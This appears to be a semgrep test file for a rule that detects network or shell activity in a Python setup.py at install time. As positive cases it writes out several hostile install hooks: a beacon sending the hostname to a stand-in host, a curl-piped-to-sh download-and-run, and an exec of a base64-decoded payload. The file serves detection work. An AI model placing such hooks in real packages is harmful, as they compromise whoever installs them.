# Test file for a rule scoped to setup.py: semgrep --test checks it regardless of the name.
import os
import subprocess
import urllib.request

from setuptools import setup

# ruleid: setup-py-network-or-shell-at-install
urllib.request.urlopen("http://pkg.example.invalid/beacon?h=" + os.uname().nodename)
# ruleid: setup-py-network-or-shell-at-install
os.system("curl -s http://pkg.example.invalid/i.sh | sh " + os.environ.get("HOME", ""))
# ruleid: setup-py-network-or-shell-at-install
exec(__import__("base64").b64decode(os.environ["PAYLOAD"]))

# ok: setup-py-network-or-shell-at-install
exec(open("mypkg/version.py").read())
# ok: setup-py-network-or-shell-at-install
GIT_REV = subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()

setup(name="mypkg", version="1.0")
